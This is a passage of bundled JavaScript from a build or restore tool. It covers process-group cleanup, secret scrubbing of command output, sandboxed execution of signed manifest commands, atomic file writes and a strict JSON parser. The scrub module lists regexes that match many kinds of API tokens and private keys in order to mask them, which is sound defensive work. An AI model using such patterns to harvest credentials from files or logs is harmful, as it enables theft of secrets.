        signal: null,
        timedOut: false,
        interrupted: false,
        ms: 0,
        output: `${line}\n`,
        truncated: false,
        escaped: [],
        startError: why
    };
}
function groupAlive(pgid) {
    try {
        process.kill(-pgid, 0);
        return true;
    }
    catch {
        return false;
    }
}
/**
 * End the process group: SIGTERM, wait up to `grace` for it to go, then SIGKILL. (A group of
 * zombies that nobody reaps still answers signal 0; SIGKILL is then harmless.)
 */
async function reapGroup(pgid, grace) {
    if (!groupAlive(pgid))
        return;
    killGroup(pgid, 'SIGTERM');
    const deadline = Date.now() + grace;
    while (groupAlive(pgid) && Date.now() < deadline)
        await new Promise(r => setTimeout(r, 25));
    killGroup(pgid, 'SIGKILL');
}
/** One line for a person: "exit 0 in 1.2 s", "timed out after 30 s", ... */
function recipe_describeResult(r, timeoutMs) {
    return describeEnd(r, timeoutMs) + describeEscaped(r.escaped);
}
function describeEnd(r, timeoutMs) {
    const secs = (r.ms / 1000).toFixed(1);
    if (r.startError)
        return `not started: ${r.startError}`;
    if (r.interrupted)
        return `interrupted after ${secs} s`;
    if (r.timedOut)
        return `timed out after ${Math.round(timeoutMs / 1000)} s (process group killed)`;
    if (r.signal)
        return `killed by ${r.signal} after ${secs} s`;
    return `exit ${r.exitCode ?? '?'} in ${secs} s`;
}
function describeEscaped(escaped) {
    if (escaped.length === 0)
        return '';
    const names = [...new Set(escaped.map(p => p.name.replace(/[^\w.+-]/g, '?')))].slice(0, 5);
    return `; stopped ${escaped.length} process(es) that left its process group (${names.join(', ')})`;
}

;// CONCATENATED MODULE: ./src/core/exec/scrub.ts
/**
 * Scrubbing secrets from recipe output before it is printed or kept: the exact values of the
 * variables an entry marks secret, token shapes that are secrets wherever they appear, and what a
 * secret scan finds (secret-scan.ts: the maintained rule set and swr's own rules).
 */
/**
 * Token shapes, each with the variable a redacted copy names it by (sync/redact.ts). A private key
 * block comes first, so its base64 lines are never matched piecemeal by a shorter shape.
 */
const scrub_NAMED_TOKEN_SHAPES = [
    {
        re: /-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?-----END [A-Z ]*PRIVATE KEY-----/g,
        variable: 'PRIVATE_KEY_PEM'
    },
    { re: /\bgh[pousr]_[A-Za-z0-9]{36,255}\b/g, variable: 'GITHUB_TOKEN' },
    { re: /\bgithub_pat_[A-Za-z0-9_]{22,255}\b/g, variable: 'GITHUB_TOKEN' },
    { re: /\bglpat-[A-Za-z0-9_-]{20,}\b/g, variable: 'GITLAB_TOKEN' },
    { re: /\bxox[abposr]-[A-Za-z0-9-]{10,}\b/g, variable: 'SLACK_TOKEN' },
    { re: /\b(?:AKIA|ASIA)[A-Z0-9]{16}\b/g, variable: 'AWS_ACCESS_KEY_ID' },
    // OpenAI / Anthropic style keys
    { re: /\bsk-(?:proj-|ant-)?[A-Za-z0-9_-]{20,}\b/g, variable: 'OPENAI_API_KEY' },
    { re: /\bhf_[A-Za-z0-9]{30,}\b/g, variable: 'HF_TOKEN' },
    { re: /\bnpm_[A-Za-z0-9]{36}\b/g, variable: 'NPM_TOKEN' },
    { re: /\bAIza[0-9A-Za-z_-]{35}\b/g, variable: 'GOOGLE_API_KEY' },
    { re: /\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\b/g, variable: 'JWT' },
    // A password in a URL (scheme://user:PASSWORD@host).
    { re: /(?<=[a-z][a-z0-9+.-]*:\/\/[^:/@\s]+:)[^@\s]+(?=@)/gi, variable: 'URL_PASSWORD' }
];
const TOKEN_SHAPES = scrub_NAMED_TOKEN_SHAPES.map(s => s.re);
const MASK = '***';
/** True when `text` holds one of the token shapes (escrow refuses such files; see secrets.ts). */
function scrub_hasTokenShape(text) {
    // search() ignores the patterns' global state, so the shared regexes stay reusable.
    return TOKEN_SHAPES.some(re => text.search(re) >= 0);
}
const KEY_BEGIN = /-----BEGIN [A-Z ]*PRIVATE KEY(?: BLOCK)?-----/;
const KEY_END = /-----END [A-Z ]*PRIVATE KEY(?: BLOCK)?-----/;
/** Lines masked after a private key's BEGIN line with no END (a 16384-bit RSA key has ~170). */
const KEY_LINES = 200;
/** Shorter pieces are not masked: masking `a` or `ok` would hide every word. */
const MIN_SECRET = 4;
/**
 * What to mask for these secret values: each whole value and, since output is read and masked
 * line by line (recipe output here, the log on the runner), every line of a multi-line value (a
 * PEM or OpenSSH key), trimmed. Longest first, so no piece is masked by a part of it.
 */
function secretPieces(secretValues) {
    const pieces = secretValues.flatMap(v => [v, v.trim(), ...v.split(/\r?\n|\r/).map(l => l.trim())]);
    return [...new Set(pieces.filter(v => v.length >= MIN_SECRET))].sort((a, b) => b.length - a.length);
}
/**
 * A scrubber for these secret values (pieces shorter than 4 characters are not masked) and the
 * token shapes; with `scan` (loadSecretScan()), also every secret the scan finds in what is left.
 */
function makeScrubber(secretValues, scan) {
    const values = secretPieces(secretValues);
    return text => {
        let out = text;
        for (const v of values)
            out = out.split(v).join(MASK);
        for (const re of TOKEN_SHAPES)
            out = out.replace(re, MASK);
        if (scan) {
            const found = scan(out).flatMap(f => f.values);
            for (const v of found.sort((a, b) => b.length - a.length))
                out = out.split(v).join(MASK);
        }
        return out;
    };
}
/**
 * A scrubber for output read a line at a time (recipe and smoke output): the lines of a private
 * key printed after its BEGIN line hold no shape of their own, so they are masked whole until
 * its END line (at most KEY_LINES of them).
 */
function makeLineScrubber(secretValues, scan) {
    const scrub = makeScrubber(secretValues, scan);
    let keyLines = 0;
    return line => {
        if (keyLines > 0) {
            keyLines = KEY_END.test(line) ? 0 : keyLines - 1;
            return MASK;
        }
        if (KEY_BEGIN.test(line) && !KEY_END.test(line))
            keyLines = KEY_LINES;
        return scrub(line);
    };
}
/** `value` with every string in it scrubbed (a report before it is written or printed). */
function scrubDeep(value, scrub) {
    if (typeof value === 'string')
        return scrub(value);
    if (Array.isArray(value))
        return value.map(v => scrubDeep(v, scrub));
    if (value !== null && typeof value === 'object')
        return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, scrubDeep(v, scrub)]));
    return value;
}

;// CONCATENATED MODULE: ./src/core/exec/signed-command.ts
/**
 * The one way swr starts code a manifest carries: a restore recipe (restore runner, selftest) or a
 * smoke command (check --run-smoke). It runs in the manifest's shell (else `bash -c`) in the given
 * directory, with only the minimal environment and the variables its entry names, under a timeout,
 * in its own process group (recipe.ts), and its output is scrubbed of the entry's secret values and
 * of every token shape and secret the scan finds. Keeping it in one place means no caller can start
 * manifest code with more of the environment, or less scrubbing, than the others.
 *
 * It starts nothing without an allowed signature decision: callers hand over the gate's answer,
 * and a refused one here is a bug (an InternalError), never a run.
 */



/** The shell a manifest without `shell` runs its code in. */
const DEFAULT_SHELL = ['bash', '-c'];
/** A recipe's time limit when neither the run nor its entry (`timeout_s`) sets one. */
const signed_command_RECIPE_TIMEOUT_S = 1800;
async function signed_command_runSignedCommand(c, run) {
    if (!run.gate.allowed)
        throw new InternalError(`${c.entry.id}: manifest code started without an allowed gate decision`);
    const secretNames = c.entry.secret_env ?? [];
    const secrets = secretNames.map(n => run.callerEnv[n]).filter((v) => v !== undefined);
    return runRecipe({
        id: c.entry.id,
        command: c.command,
        shell: c.shell ?? DEFAULT_SHELL,
        cwd: c.cwd,
        env: { ...minimalEnv(run.callerEnv, [...(c.entry.env ?? []), ...secretNames]), ...c.setEnv },
        timeoutMs: c.timeoutMs
    }, {
        abort: run.abort,
        onLine: run.onLine,
        scrub: makeLineScrubber(secrets, run.secretScan)
    });
}

;// CONCATENATED MODULE: ./src/core/archive/rejected.ts
/** Why a cache archive was refused: one line, ready for the report (names are escaped by the caller). */
class Rejected extends Error {
    constructor(message) {
        super(message);
        this.name = 'Rejected';
    }
}

;// CONCATENATED MODULE: ./src/core/state/leftovers.ts
/**
 * What a killed run leaves behind, and who clears it. A run stopped by `kill -9` or a lost runner
 * cannot remove its temporary files (an atomic write's `.NAME.PID-RANDOM.tmp`, a scratch
 * directory, a target moved aside), so every such name carries the process id of the run that
 * made it, and the next run that works in the same directory removes the ones whose process is
 * gone. A live run's files are never touched: its pid answers. A pid reused by an unrelated
 * process only delays the removal until that process ends.
 *
 * Only names of exactly swr's shapes, owned by this user, are removed, and a link is removed as
 * a link, never followed.
 */




/** Whether the maker `pid` runs (a zombie does not; one of another user does). */
function pidAlive(pid) {
    return Number.isSafeInteger(pid) && pid > 0 && processRuns(pid, undefined);
}
/** A fresh name `PREFIX<pid>-<random>SUFFIX` that `sweepDead` can attribute to this process. */
function ownedName(prefix, suffix = '') {
    return `${prefix}${process.pid}-${(0,external_node_crypto_.randomBytes)(8).toString('hex')}${suffix}`;
}
/** The pid in a name made by `ownedName` with this prefix and suffix, if it is one. */
function ownerOf(name, prefix, suffix) {
    if (!name.startsWith(prefix) || !name.endsWith(suffix))
        return undefined;
    const m = /^(\d{1,10})-[0-9a-f]{16}$/.exec(name.slice(prefix.length, name.length - suffix.length));
    return m ? Number(m[1]) : undefined;
}
/**
 * Remove from `dir` every entry of one of `families` whose maker is dead. Returns how many went.
 * A directory that cannot be read is left alone: sweeping is housekeeping, never a failure.
 */
function sweepDead(dir, families) {
    let names;
    try {
        names = external_node_fs_default().readdirSync(dir);
    }
    catch {
        return 0;
    }
    const uid = typeof process.getuid === 'function' ? process.getuid() : undefined;
    let removed = 0;
    for (const name of names) {
        const pid = families
            .map(f => ownerOf(name, prefixOf(name, f.prefix), f.suffix ?? ''))
            .find(p => p !== undefined);
        if (pid === undefined || pid === process.pid || pidAlive(pid))
            continue;
        const abs = external_node_path_default().join(dir, name);
        const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
        if (!st || (uid !== undefined && st.uid !== uid))
            continue;
        try {
            external_node_fs_default().rmSync(abs, { recursive: st.isDirectory(), force: true });
            removed++;
        }
        catch {
            // Left for a later run: housekeeping never fails the run.
        }
    }
    return removed;
}
/** A fixed prefix as it is; a pattern's match at the start of `name` (or nothing, never a match). */
function prefixOf(name, prefix) {
    if (typeof prefix === 'string')
        return prefix;
    return prefix.exec(name)?.[0] ?? '\0';
}
/** An atomic write's temporary file: `.BASENAME.PID-RANDOM.tmp`. */
const ATOMIC_TMP = { prefix: /^\..+?\.(?=\d+-[0-9a-f]{16}\.tmp$)/, suffix: '.tmp' };
/** swr's scratch directories: `swr-WORD-PID-RANDOM`. */
const SCRATCH = { prefix: /^swr-[a-z]+-(?=\d+-[0-9a-f]{16}$)/ };
/**
 * A private temporary directory `NAME-PID-RANDOM` under `base` (NAME is `swr-WORD`), after
 * clearing every swr scratch directory a dead run left there.
 */
function leftovers_makeOwnedTemp(base, name) {
    sweepDead(base, [SCRATCH]);
    const dir = external_node_path_default().join(base, ownedName(`${name}-`));
    external_node_fs_default().mkdirSync(dir, { mode: 0o700 });
    return dir;
}

;// CONCATENATED MODULE: ./src/core/state/atomic.ts
/**
 * Writes that never leave a half-written file and never clobber what they did not mean to: data
 * goes to a new file with a random name, created exclusively beside the target, written to the last
 * byte, fsynced, its size checked, then renamed over the target. A full disk (or a quota, or an I/O
 * error) removes the new file, leaves the target as it was, and becomes one line with
 * EXIT.WRITE_FAILED.
 */




/**
 * Write every byte of `buf` at the descriptor's position: `write(2)` may write fewer bytes than
 * asked (a nearly full disk, a signal), and the rest must follow, or the error must surface.
 */
function writeAll(fd, buf) {
    let off = 0;
    while (off < buf.length) {
        const n = external_node_fs_default().writeSync(fd, buf, off, buf.length - off);
        // write(2) returning 0 for a non-empty buffer is a full device that did not say ENOSPC.
        if (n <= 0)
            throw Object.assign(new Error('short write'), { code: 'ENOSPC' });
        off += n;
    }
}
/** `err` as a one-line SwrError when the disk caused it; anything else unchanged. */
function asWriteError(err, what) {
    return diskError(err, what) ?? err;
}
/** Write `data` to `file` atomically; the directory must exist. */
function atomic_writeFileAtomic(file, data, opts = {}) {
    const parts = partsOf(data);
    if (opts.unlessSame && holds(file, parts, partsLength(parts), opts.mode))
        return;
    stageFile(file, parts, opts).commit();
}
/**
 * The first half of writeFileAtomic: every byte of `data` on disk under a temporary name, so a
 * caller with several files to write can move them in only when all of them were written.
 */
function stageFile(file, data, opts = {}) {
    const parts = partsOf(data);
    const length = partsLength(parts);
    const dir = external_node_path_default().dirname(file);
    // The name carries this pid, so a later run can clear it if this one is killed mid-write.
    const tmp = external_node_path_default().join(dir, ownedName(`.${external_node_path_default().basename(file)}.`, '.tmp'));
    const flags = (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW;
    let fd;
    try {
        fd = external_node_fs_default().openSync(tmp, flags, opts.mode ?? 0o644);
    }
    catch (err) {
        throw asWriteError(err, file);
    }
    try {
        try {
            for (const part of parts)
                writeAll(fd, part);
            if (opts.mode !== undefined)
                external_node_fs_default().fchmodSync(fd, opts.mode);
            external_node_fs_default().fsyncSync(fd);
            // The length on disk, not the count we believe we wrote, decides whether it replaces the target.
            const size = external_node_fs_default().fstatSync(fd).size;
            if (size !== length)
                throw new errors_SwrError(`cannot write ${file}: ${size} of ${length} bytes reached the disk; the original is unchanged`, errors_EXIT.WRITE_FAILED);
        }
        finally {
            external_node_fs_default().closeSync(fd);
        }
    }
    catch (err) {
        external_node_fs_default().rmSync(tmp, { force: true });
        throw asWriteError(err, file);
    }
    return {
        file,
        commit: () => {
            try {
                if (opts.exclusive) {
                    // link() fails when the target exists, so a concurrent creator is never overwritten.
                    external_node_fs_default().linkSync(tmp, file);
                    external_node_fs_default().unlinkSync(tmp);
                }
                else {
                    external_node_fs_default().renameSync(tmp, file);
                }
            }
            catch (err) {
                external_node_fs_default().rmSync(tmp, { force: true });
                throw asWriteError(err, file);
            }
        },
        discard: () => external_node_fs_default().rmSync(tmp, { force: true })
    };
}
function partsOf(data) {
    // Parts are written one after another: a megabyte of cache in pieces is never copied into one.
    return typeof data === 'string' ? [Buffer.from(data, 'utf8')] : isPart(data) ? [data] : data;
}
function partsLength(parts) {
    return parts.reduce((n, p) => n + p.length, 0);
}
function isPart(data) {
    return ArrayBuffer.isView(data);
}
const COMPARE_BYTES = 64 * 1024;
/**
 * Whether `file` is a regular file (never followed through a link) of exactly `length` bytes,
 * these `parts` in order, and of `mode` when one is given. Read through one small buffer: the
 * comparison touches no new memory however large the file.
 */
function holds(file, parts, length, mode) {
    let fd;
    try {
        // O_NONBLOCK: a FIFO planted at the target is looked at, never waited on.
        fd = external_node_fs_default().openSync(file, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW | ((external_node_fs_default()).constants.O_NONBLOCK ?? 0));
    }
    catch {
        return false;
    }
    try {
        const st = external_node_fs_default().fstatSync(fd);
        if (!st.isFile() || st.size !== length)
            return false;
        if (mode !== undefined && (st.mode & 0o7777) !== mode)
            return false;
        const buf = Buffer.allocUnsafe(COMPARE_BYTES);
        let at = 0;
        for (const part of parts) {
            for (let off = 0; off < part.length;) {
                const n = external_node_fs_default().readSync(fd, buf, 0, Math.min(buf.length, part.length - off), at);
                if (n <= 0 || Buffer.compare(buf.subarray(0, n), part.subarray(off, off + n)) !== 0)
                    return false;
                off += n;
                at += n;
            }
        }
        // Nothing after the last part (the file may have grown since its fstat).
        return external_node_fs_default().readSync(fd, buf, 0, 1, at) === 0;
    }
    catch {
        return false;
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
}
/**
 * Append one record with a single descriptor: every byte or a one-line error. A record torn by a
 * full disk is cut back off, so the file keeps only whole lines.
 */
function appendRecord(file, data, opts = {}) {
    const flags = (external_node_fs_default()).constants.O_WRONLY |
        (external_node_fs_default()).constants.O_APPEND |
        (external_node_fs_default()).constants.O_NOFOLLOW |
        (opts.create ? (external_node_fs_default()).constants.O_CREAT : 0);
    let fd;
    try {
        fd = external_node_fs_default().openSync(file, flags, opts.mode ?? 0o600);
    }
    catch (err) {
        throw asWriteError(err, file);
    }
    let before = 0;
    try {
        before = external_node_fs_default().fstatSync(fd).size;
        writeAll(fd, Buffer.from(data, 'utf8'));
        external_node_fs_default().fsyncSync(fd);
    }
    catch (err) {
        try {
            external_node_fs_default().ftruncateSync(fd, before);
        }
        catch {
            // The reader skips a torn last line anyway.
        }
        throw asWriteError(err, file);
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
}

;// CONCATENATED MODULE: ./src/core/state/state-dir.ts
/**
 * The private state directory (incremental cache, keys, journals): 0700, outside the workspace by
 * default. `SWR_STATE_DIR`, else `$XDG_STATE_HOME/swr`, else `~/.local/state/swr`. The shells
 * resolve it from the environment and pass it in; the engine never reads the environment.
 */



function defaultStateDir(env, home) {
    if (env.SWR_STATE_DIR)
        return external_node_path_default().resolve(env.SWR_STATE_DIR);
    if (env.XDG_STATE_HOME)
        return external_node_path_default().join(external_node_path_default().resolve(env.XDG_STATE_HOME), 'swr');
    return external_node_path_default().join(home, '.local', 'state', 'swr');
}
/**
 * Create `dir` (and `sub`) with private modes, tightening a directory that is too open, and clear
 * the temporary files a killed swr run left in the last of them (callers are about to write there).
 */
function state_dir_ensurePrivateDir(dir, ...sub) {
    let current = dir;
    external_node_fs_default().mkdirSync(current, { recursive: true, mode: 0o700 });
    tighten(current);
    for (const s of sub) {
        current = external_node_path_default().join(current, s);
        external_node_fs_default().mkdirSync(current, { recursive: true, mode: 0o700 });
        tighten(current);
    }
    sweepDead(current, [ATOMIC_TMP]);
    return current;
}
function tighten(dir) {
    const st = external_node_fs_default().lstatSync(dir);
    if (!st.isDirectory())
        throw new Error(`${dir} is not a directory`);
    if ((st.mode & 0o077) !== 0)
        external_node_fs_default().chmodSync(dir, 0o700);
}

;// CONCATENATED MODULE: ./src/core/manifest/key-template.ts
/**
 * Key templates of sealed manifest entries: what a sealed state depends on, spelt small. Literal
 * text ([A-Za-z0-9._+-]) and five placeholders:
 *
 *   {os} {arch}   the platform (linux, darwin; x64, arm64): npm installs per-platform packages
 *   {libc}        glibc or musl on Linux (npm's libc field), none elsewhere
 *   {node}        Node's major version (native modules are built per ABI)
 *   {hash:P,...}  the first 16 hex digits of sha256 over the named workspace files (a lockfile)
 *
 * A template reads nothing outside the workspace: each `hash` path is a relative manifest path,
 * and a file reached through a link that leaves the workspace is refused, not read. Nothing runs.
 */


const LITERAL = /^[A-Za-z0-9._+-]*$/;
/** The template's parts, or the first problem with it (one line, naming the placeholder). */
function parseTemplate(t) {
    const parts = [];
    let rest = t;
    while (rest !== '') {
        const open = rest.indexOf('{');
        const literal = open < 0 ? rest : rest.slice(0, open);
        if (!LITERAL.test(literal))
            return `literal text ${quoted(literal)} may hold only A-Z a-z 0-9 . _ + -`;
        if (literal)
            parts.push({ literal });
        if (open < 0)
            break;
        const close = rest.indexOf('}', open);
        if (close < 0)
            return 'a { without its }';
        const inner = rest.slice(open + 1, close);
        rest = rest.slice(close + 1);
        if (inner === 'os' || inner === 'arch' || inner === 'libc' || inner === 'node') {
            parts.push({ name: inner });
            continue;
        }
        if (!inner.startsWith('hash:'))
            return `unknown placeholder {${quoted(inner).replace(/^"|"$/g, '')}}`;
        const paths = inner.slice(5).split(',');
        for (const p of paths) {
            const problem = p === '.' ? 'is the workspace itself' : paths_pathProblem(p);
            if (problem)
                return `{hash:${p}}: the path ${problem}`;
        }
        parts.push({ hash: paths });
    }
    return parts.length > 0 ? parts : 'is empty';
}

;// CONCATENATED MODULE: ./src/core/fs/inside.ts
/** Containment of one absolute path in another, by name (no file system access). */
/** True when `abs` is `root` or below it (both already absolute and normalised). */
function inside_isInside(root, abs) {
    if (abs === root)
        return true;
    const base = root.endsWith('/') ? root : `${root}/`;
    return abs.startsWith(base);
}

;// CONCATENATED MODULE: ./src/core/verify/locate-entry.ts
/**
 * Finding an entry on disk without being led out of the workspace. The parent chain is resolved
 * with realpath and must stay inside the workspace; the entry itself is lstat'ed, never followed.
 * Checking is read-only, so a parent swapped between this call and a read yields a wrong answer at
 * worst, never a write elsewhere (writes in repair use their own descriptor-based checks).
 */



/** Locate `rel` below `root` (an absolute, real directory path). */
function locate_entry_locateInside(root, rel) {
    const abs = rel === '.' ? root : external_node_path_default().join(root, rel);
    if (rel !== '.') {
        const parent = external_node_path_default().dirname(abs);
        let realParent;
        try {
            realParent = external_node_fs_default().realpathSync(parent);
        }
        catch (err) {
            const code = err.code;
            const why = code === 'ENOTDIR' ? 'a parent is not a directory' : 'parent directory absent';
            return { state: 'missing', abs, why };
        }
        if (!inside_isInside(root, realParent)) {
            return { state: 'escapes', abs, why: `parent resolves outside the workspace (${realParent})` };
        }
    }
    try {
        return { state: 'present', abs, st: external_node_fs_default().lstatSync(abs, { bigint: true }) };
    }
    catch (err) {
        const code = err.code;
        return { state: 'missing', abs, why: code === 'ENOENT' ? 'absent' : `unreadable (${code})` };
    }
}
/** What a non-matching type is, in the words reports use. */
function typeName(st) {
    if (st.isFile())
        return 'file';
    if (st.isDirectory())
        return 'directory';
    if (st.isSymbolicLink())
        return 'symlink';
    if (st.isFIFO())
        return 'fifo';
    if (st.isSocket())
        return 'socket';
    return 'device';
}
/** The incremental-cache identity of a file: dev, inode, size, mtime_ns, ctime_ns. */
function identity(st) {
    return `${st.dev}:${st.ino}:${st.size}:${st.mtimeNs}:${st.ctimeNs}`;
}

;// CONCATENATED MODULE: ./src/core/seal/key.ts
/**
 * Expanding a sealed entry's key template (manifest/key-template.ts) on this machine: the platform
 * as the placeholders spell it, and the hashed workspace files read without leaving the workspace.
 */





const MAX_HASHED_BYTES = 256 * 1024 * 1024;
/** This machine's platform, as the placeholders spell it. */
function currentPlatform() {
    const report = process.report?.getReport();
    const libc = process.platform !== 'linux' ? 'none' : report?.header?.glibcVersionRuntime ? 'glibc' : 'musl';
    return {
        os: process.platform,
        arch: process.arch,
        libc,
        node: process.versions.node.split('.')[0] ?? '0'
    };
}
function hashFiles(workspace, paths) {
    const h = (0,external_node_crypto_.createHash)('sha256');
    for (const p of paths) {
        const loc = locate_entry_locateInside(workspace, p);
        if (loc.state !== 'present')
            throw new Error(`{hash:${p}}: ${loc.why}`);
        if (!loc.st.isFile())
            throw new Error(`{hash:${p}}: not a regular file`);
        if (Number(loc.st.size) > MAX_HASHED_BYTES)
            throw new Error(`{hash:${p}}: over ${MAX_HASHED_BYTES} bytes`);
        h.update(`${p}\0${Number(loc.st.size)}\0`).update(external_node_fs_default().readFileSync(loc.abs));
    }
    return h.digest('hex').slice(0, 16);
}
/** The key `template` names here and now; throws one line when a hashed file is not there. */
function expandKey(template, workspace, platform) {
    const parts = parseTemplate(template);
    if (typeof parts === 'string')
        throw new Error(`key template ${quoted(template)}: ${parts}`);
    return parts
        .map(p => 'literal' in p ? p.literal : 'name' in p ? platform[p.name] : hashFiles(workspace, p.hash))
        .join('');
}

// EXTERNAL MODULE: ./node_modules/jsonc-parser/lib/umd/main.js
var main = __webpack_require__(99547);
;// CONCATENATED MODULE: ./src/core/manifest/strict-json.ts
/**
 * A strict JSON reader for documents whose bytes are signed. `JSON.parse` keeps the last of two
 * duplicate keys, accepts 1e400 and lone surrogates, and says nothing about where a value was:
 * a reviewer could approve one value while the tool runs another. The tokenizer is jsonc-parser's;
 * this module refuses everything that could read two ways and records the line of each value.
 */


const DEFAULT_LIMITS = {
    maxBytes: 64 * 1024 * 1024,
    maxDepth: 32,
    maxArrayLength: 100_000
};
/** Thrown with every problem found; the message is the first one, with its place. */
class StrictJsonError extends Error {
    problems;
    constructor(problems) {
        super(problems[0] ?? 'invalid JSON');
        this.problems = problems;
        this.name = 'StrictJsonError';
    }
}
const FORBIDDEN_KEYS = new Set(['__proto__', 'constructor', 'prototype']);
// "-0" is refused too: canonical JSON prints it as 0, so two texts would sign alike.
const INTEGER = /^(?:0|-?[1-9][0-9]*)$/;
/**
 * Parse `text` or throw StrictJsonError naming each place (`line:col $.path`). A document the
 * strict reader accepts as it is (the usual case) is read by the engine's own JSON.parse and
 * proven plain by plainJson; anything else, and the lines of a plain one when asked for, come
 * from the strict reader below, so every refusal and every line number is the strict reader's.
 */
function parseStrictJson(text, limits = DEFAULT_LIMITS) {
    const bytes = Buffer.byteLength(text, 'utf8');
    if (bytes > limits.maxBytes) {
        throw new StrictJsonError([
            `document is ${bytes} bytes, over the ${limits.maxBytes}-byte limit`
        ]);
    }
    const plain = plainJson(text, limits);
    if (plain === undefined)
        return strictParse(text, limits);
    // Lines matter only to a message or an annotation: read for them when first asked.
    return { value: plain.value, lines: lazyMap(() => strictParse(text, limits).lines) };
}
/**
 * A Map whose contents are made on first use. It stands in wherever a Map does (every read goes
 * to the real one), and copying the object that holds it, as `{ ...manifest }` does, makes
 * nothing.
 */
function lazyMap(make) {
    let made;
    return new Proxy(new Map(), {
        get(_target, key) {
            made ??= make();
            const value = Reflect.get(made, key, made);
            return typeof value === 'function' ? value.bind(made) : value;
        }
    });
}
// A JSON string token (the text is known to be JSON, so this is its tokenization), and whether
// a colon follows it (then it is a key).
const STRING_TOKEN = /"[^"\\]*(?:\\.[^"\\]*)*"(\s*:)?/g;
const NUMBER_TOKEN = /-?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?/g;
/**
 * The value of `text` when it is JSON the strict reader would accept exactly as JSON.parse reads
 * it, else undefined (the strict reader then decides). JSON.parse refuses everything that is not
 * JSON (comments, trailing commas, control characters, trailing data); what it accepts but the
 * strict reader refuses is looked for here: a duplicate key (JSON.parse keeps the last one, so
 * the parsed objects then hold fewer keys than the text spells), a forbidden key, a lone
 * surrogate, a number spelled other than as a plain safe integer, nesting or an array over the
 * limits. Measured ~0.5 ms for a 52-entry manifest where the strict reader takes ~10-13 ms cold.
 */
function plainJson(text, limits) {
    try {
        const value = JSON.parse(text);
        let keys = 0;
        for (const m of text.matchAll(STRING_TOKEN))
            if (m[1] !== undefined)
                keys++;
        const outside = text.replace(STRING_TOKEN, '""');
        for (const [n] of outside.matchAll(NUMBER_TOKEN))
            if (!INTEGER.test(n) || !Number.isSafeInteger(Number(n)))
                return undefined;
        return keysIfPlain(value, limits, 1) === keys ? { value } : undefined;
    }
    catch {
        // Not JSON, or too large or deep for the engine's reader: the strict reader says why.
        return undefined;
    }
}
/** How many keys `v` holds at every level, or -1 where the strict reader would refuse it. */
function keysIfPlain(v, limits, depth) {
    if (typeof v === 'string')
        return v.isWellFormed() ? 0 : -1;
    if (v === null || typeof v !== 'object')
        return 0;
    if (depth > limits.maxDepth)
        return -1;
    let keys = 0;
    if (Array.isArray(v)) {
        if (v.length > limits.maxArrayLength)
            return -1;
        for (const x of v) {
            const k = keysIfPlain(x, limits, depth + 1);
            if (k < 0)
                return -1;
            keys += k;
        }
        return keys;
    }
    for (const key of Object.keys(v)) {
        if (!key.isWellFormed() || FORBIDDEN_KEYS.has(key))
            return -1;
        const k = keysIfPlain(v[key], limits, depth + 1);
        if (k < 0)
            return -1;
        keys += k + 1;
    }
    return keys;
}
/**
 * The strict reader: jsonc-parser's tokens, every problem named with its line and path.
 * Exported so tests can hold the fast path to it.
 */
function strictParse(text, limits = DEFAULT_LIMITS) {
    // jsonc-parser recurses per nesting level: refuse deep documents before it can overflow the stack.
    const tooDeep = depthProblem(text, limits.maxDepth);
    if (tooDeep)
        throw new StrictJsonError([tooDeep]);
    const problems = [];
    const lines = new Map();
    const stack = [];
    let root;
    let rootSeen = false;
    const at = (line, col, path) => `${line + 1}:${col + 1} ${path}`;
    const fail = (msg) => {
        if (problems.length < 50)
            problems.push(msg);
    };
    const childPath = () => {
        const top = stack[stack.length - 1];
        if (!top)
            return '$';
        if (top.kind === 'array')
            return `${top.path}[${top.value.length}]`;
        return `${top.path}${/^[A-Za-z_$][\w$]*$/.test(top.key ?? '') ? `.${top.key}` : `[${JSON.stringify(top.key)}]`}`;
    };
    const place = (value, line) => {
        const top = stack[stack.length - 1];
        const path = childPath();
        lines.set(path, line + 1);
        if (!top) {
            if (rootSeen)
                return;
            root = value;
            rootSeen = true;
        }
        else if (top.kind === 'array') {
            if (top.value.length >= limits.maxArrayLength) {
                fail(`${at(line, 0, top.path)}: array longer than ${limits.maxArrayLength} items`);
                return;
            }
            top.value.push(value);
        }
        else if (top.key !== undefined) {
            top.value[top.key] = value;
            top.key = undefined;
        }
    };
    const open = (c, line, col) => {
        if (stack.length >= limits.maxDepth) {
            fail(`${at(line, col, c.path)}: nested deeper than ${limits.maxDepth} levels`);
        }
        stack.push(c);
    };
    // The depth check above bounds the parser's recursion; should it ever miss, a stack overflow
    // is still a refused document and not a crash.
    try {
        (0,main.visit)(text, {
            onObjectBegin: (_o, _l, line, col) => {
                const value = {};
                const path = childPath();
                place(value, line);
                open({ kind: 'object', value, path }, line, col);
            },
            onObjectProperty: (key, _o, _l, line, col) => {
                const top = stack[stack.length - 1];
                if (!top || top.kind !== 'object')
                    return;
                const path = `${top.path}[${JSON.stringify(key)}]`;
                if (!key.isWellFormed())
                    fail(`${at(line, col, top.path)}: key has a lone surrogate`);
                else if (FORBIDDEN_KEYS.has(key))
                    fail(`${at(line, col, path)}: key ${quoted(key)} is not allowed`);
                else if (Object.hasOwn(top.value, key))
                    fail(`${at(line, col, path)}: duplicate key ${quoted(key)}`);
                top.key = key;
            },
            onObjectEnd: () => {
                stack.pop();
            },
            onArrayBegin: (_o, _l, line, col) => {
                const value = [];
                const path = childPath();
                place(value, line);
                open({ kind: 'array', value, path }, line, col);
            },
            onArrayEnd: () => {
                stack.pop();
            },
            onLiteralValue: (value, offset, length, line, col) => {
                const path = childPath();
                if (typeof value === 'number') {
                    const raw = text.slice(offset, offset + length);
                    if (!INTEGER.test(raw) || !Number.isSafeInteger(value)) {
                        fail(`${at(line, col, path)}: number ${raw} is not a safe integer`);
                    }
                }
                else if (typeof value === 'string' && !value.isWellFormed()) {
                    fail(`${at(line, col, path)}: string has a lone surrogate`);
                }
                place(value, line);
